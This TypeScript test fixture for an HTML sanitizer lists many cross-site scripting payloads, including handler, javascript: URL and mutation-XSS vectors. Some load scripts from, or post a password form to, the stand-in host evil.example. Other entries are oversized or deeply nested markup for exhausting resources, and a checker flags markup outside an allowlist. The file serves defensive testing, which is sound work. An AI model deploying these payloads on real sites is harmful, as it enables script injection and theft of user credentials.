import { parseDocument } from 'htmlparser2';

/** Markup that tries to run, to fetch, or to break the page; each is one body. */
export const hostileMarkup: Readonly<Record<string, string>> = {
  script: '<p>好</p><script>alert(1)</script><SCRIPT/SRC=//evil.example/x.js></SCRIPT>',
  'broken script': '<scr<script>ipt>alert(1)</scr</script>ipt><p>好</p><script>alert(2)//<p>后',
  handlers:
    '<p onclick=alert(1)>好</p><img src=x onerror="alert(1)"><body onload=alert(1)><a href="#" onmouseover=alert(1)>点</a>',
  'handlers without spaces': '<img/src="x"/onerror=alert(1)//><p/onclick=alert(1)>好</p>',
  'javascript addresses':
    '<a href="javascript:alert(1)">甲</a><a href="  JaVaScRiPt:alert(1)">乙</a><a href="java&#x09;script:alert(1)">丙</a><a href="&#106;avascript:alert(1)">丁</a><a href="java\nscript:alert(1)">戊</a><a href="\u0001javascript:alert(1)">己</a>',
  'data addresses':
    '<a href="data:text/html,<script>alert(1)</script>">甲</a><img src="data:image/svg+xml;base64,PHN2Zy8+"><iframe src="data:text/html,x"></iframe>',
  'vbscript and files':
    '<a href="vbscript:msgbox(1)">甲</a><a href="file:///etc/passwd">乙</a><img src="file:///C:/x.png"><a href="\\\\evil.example\\share">丙</a>',
  'protocol-relative':
    '<a href="//evil.example/x">甲</a><img src="//evil.example/x.png"><img src="http://evil.example/x.png">',
  styles:
    '<p style="width:expression(alert(1));background:url(javascript:alert(1));position:fixed;inset:0">好</p><style>@import "//evil.example/x.css";*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  'meta and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><title>假</title><p>好</p>',
  frames:
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x.swf"></object><embed src="x.swf"><applet code=x></applet><frameset><frame src=x></frameset>',
  forms:
    '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>登录</button><textarea></textarea><select><option>好</select></form>',
  svg: '<svg onload=alert(1)><script>alert(1)</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)></body></foreignObject><a xlink:href="javascript:alert(1)"><text>点</text></a><animate attributeName=href values=javascript:alert(1) /></svg><p>好</p>',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
  'mutation in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">好</p></noscript>',
  'mutation in style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
  'mutation in textarea': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'mutation in template':
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template><p>好</p>',
  'mutation in form table':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation in comments': '<!--><img src=x onerror=alert(1)>--><!--!><script>alert(1)</script>--!><p>好</p>',
  'mutation in cdata':
    '<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="javascript:alert(1)"?><p>好</p>',
  'mutation in attributes':
    '<p class="align-center&quot;><img src=x onerror=alert(1)>">好</p><a title="`onmouseover=alert(1)" href="https://www.gov.cn/`x">点</a><img alt="``onerror=alert(1)" src="/files/items/1/zz">',
  'mutation by nesting':
    '<table><tr><td><a href="https://www.gov.cn"><table><tr><td><a href="javascript:alert(1)">x</table></a></table><p><p><h2><li><td>散',
  plaintext: '<p>前</p><xmp><script>alert(1)</script></xmp><plaintext><p>后',
  'identifiers that hide others':
    '<p id="item-form" name="csrf">好</p><img name="getElementById" id="body"><a id="documentElement" href="#">点</a>',
  classes:
    '<p class="workbench visually-hidden align-center button-primary" data-island="item-editor" hidden>好</p>',
  'custom elements':
    '<x-island data-island="htmx" hx-get="/workbench" is="x"></x-island><p hx-get="/workbench" hx-trigger="load">好</p>',
  'slots and dialogs':
    '<dialog open>假的对话框</dialog><details open ontoggle=alert(1)><summary>开</summary></details><slot name=x></slot>',
  media:
    '<video src=x onerror=alert(1) autoplay></video><audio src=//evil.example/x></audio><source srcset="//evil.example/x.png"><picture><source srcset=x><img src=x srcset="//evil.example/y.png 2x"></picture>',
};

/** Shapes that are only text and tables, but too much of them. */
export const heavyMarkup: Readonly<Record<string, () => string>> = {
  'a table of 300 columns': () =>
    `<table><thead><tr>${'<th>列名很长的一列</th>'.repeat(300)}</tr></thead><tbody>${`<tr>${'<td>123456.78</td>'.repeat(300)}</tr>`.repeat(5)}</tbody></table>`,
  'cells over ten thousand columns': () =>
    '<table><tr><td colspan="10000" rowspan="65535">跨</td></tr><tr><td colspan="-3">负</td></tr></table>',
  'a paragraph of 600 000 characters without a break': () => `<p>${'x'.repeat(600_000)}</p>`,
  'a paragraph of two million bytes in Chinese': () => `<p>${'长'.repeat(690_000)}</p>`,
  'an address without a break': () =>
    `<p><a href="https://www.gov.cn/${'a'.repeat(1500)}">https://www.gov.cn/${'a'.repeat(1500)}</a></p>`,
  'lists in lists': () => `${'<ul><li>层'.repeat(400)}${'</li></ul>'.repeat(400)}`,
  'quotations in quotations': () => `${'<blockquote>'.repeat(3000)}深${'</blockquote>'.repeat(3000)}`,
  'tables in tables': () => `${'<table><tr><td>'.repeat(50)}深${'</td></tr></table>'.repeat(50)}`,
  'marks stacked on letters': () =>
    `<p>${`a${'\u0301'.repeat(200)}`.repeat(50)}</p><p>\u202e左右颠倒\u2066</p>`,
  'a picture as wide as a street': () =>
    `<p>图</p><p><img src="/files/items/1/${'a'.repeat(64)}" width="99999" height="99999" alt="${'长'.repeat(3000)}"></p>`,
  'many elements': () => '<p>段<strong>落</strong></p>'.repeat(20_000),
};

const ELEMENTS = new Set(
  'h2 h3 h4 p br hr strong em u s sup sub blockquote ul ol li a img figure figcaption table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set('href title src alt width height colspan rowspan scope start class'.split(' '));

/** Where a browser would go: on this site, or openly elsewhere by an address with its scheme. */
function leadsAstray(href: string): boolean {
  if (!URL.canParse(href, 'https://here.example/items/')) return false;
  const { protocol, host } = new URL(href, 'https://here.example/items/');
  if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)) return true;
  return host !== 'here.example' && protocol.startsWith('http') && !/^https?:/i.test(href);
}

/** What of a body is not on the list of what a body may hold; told by a reader of its own. Its links look like `links`. */
export function strangeIn(body: string, links = /^/): string[] {
  const found: string[] = [];
  const open = [...parseDocument(body).children] as unknown as {
    type: string;
    name?: string;
    attribs?: Record<string, string>;
    children?: never[];
  }[];
  for (let node = open.pop(); node; node = open.pop()) {
    open.push(...(node.children ?? []));
    if (node.type === 'text') continue;
    if (node.type !== 'tag') found.push(node.type);
    if (!ELEMENTS.has(node.name ?? '')) found.push(`<${node.name}>`);
    for (const [name, value] of Object.entries(node.attribs ?? {})) {
      if (!ATTRIBUTES.has(name)) found.push(name);
      if (name === 'href' && (leadsAstray(value) || !links.test(value))) found.push(`href ${value}`);
      if (name === 'src' && !/^\/files\/items\/\d+\/[0-9a-f]{64}$/.test(value)) found.push(`src ${value}`);
      if (name === 'class' && !/^(align-center|align-right|no-indent)( |$)/.test(value))
        found.push(`class ${value}`);
    }
  }
  return found;
}
